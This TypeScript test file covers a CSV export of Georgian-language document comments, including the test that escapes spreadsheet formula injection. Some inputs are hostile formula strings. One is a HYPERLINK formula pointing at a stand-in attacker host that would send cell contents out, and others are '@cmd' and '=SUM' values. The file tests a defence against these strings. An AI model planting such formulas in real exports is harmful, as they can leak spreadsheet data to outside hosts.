import { describe, expect, test } from 'vitest';
import { csvField, recordCsv, type RecordRow } from './commentRecord';

const row = (over: Partial<RecordRow>): RecordRow => ({
  index: 1,
  article: 'მუხლი 1',
  quote: 'ტექსტი',
  proposal: '',
  comment: 'შენიშვნა',
  author: 'ნინო',
  date: '2026 წლის 15 სექტემბერი',
  outcome: 'გათვალისწინებულია',
  reason: '',
  replies: '',
  publicConsultation: false,
  textRemoved: false,
  ...over,
});

describe('the record as CSV', () => {
  test('starts with a UTF-8 byte-order mark, ends records with CRLF and quotes fields per RFC 4180', () => {
    const bytes = recordCsv([row({ comment: 'ის წერს: "არა", მაგრამ\nშემდეგ ხაზზე', publicConsultation: true })], 'ka');
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes).slice(1);
    const lines = text.split('\r\n');
    expect(lines[0]).toBe('№,მუხლი,ციტირებული ტექსტი,შემოთავაზებული ტექსტი,შენიშვნა,ავტორი,თარიღი,შედეგი,დასაბუთება,პასუხები,საჯარო განხილვა');
    expect(text).toContain('"ის წერს: ""არა"", მაგრამ\nშემდეგ ხაზზე"');
    expect(text.endsWith(',დიახ\r\n')).toBe(true);
  });

  test('neutralises every cell a spreadsheet would run as a formula with a leading quote, then quotes as usual', () => {
    expect(csvField('=1+1')).toBe("'=1+1");
    expect(csvField('+7 555')).toBe("'+7 555");
    expect(csvField('-2+3')).toBe("'-2+3");
    expect(csvField('@SUM(A1:A2)')).toBe("'@SUM(A1:A2)");
    expect(csvField('\t=1')).toBe("'\t=1");
    expect(csvField('\r=1')).toBe(`"'\r=1"`);
    expect(csvField('=HYPERLINK("http://evil.example/?"&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Click"")"`);
    // Only the first character counts: text with a formula sign inside it is left alone.
    expect(csvField('ა=ბ, - @ +')).toBe('"ა=ბ, - @ +"');
    expect(csvField(' =1')).toBe(' =1');
    expect(csvField('')).toBe('');
  });

  test('neutralises hostile text in any column of the record, the header row left as it is', () => {
    const bytes = recordCsv([row({ quote: '@cmd', proposal: '=SUM(1)', comment: '=HYPERLINK("http://x","y")', author: '+ნინო', reason: '-1', replies: 'ა (1): =2' })], 'en');
    const [header, line] = new TextDecoder().decode(bytes).split('\r\n');
    expect(header).toBe('No.,Article,Quoted text,Proposed text,Comment,Author,Date,Outcome,Reason,Replies,Public consultation');
    expect(line).toBe(`1,მუხლი 1,'@cmd,'=SUM(1),"'=HYPERLINK(""http://x"",""y"")",'+ნინო,2026 წლის 15 სექტემბერი,გათვალისწინებულია,'-1,ა (1): =2,`);
  });
});
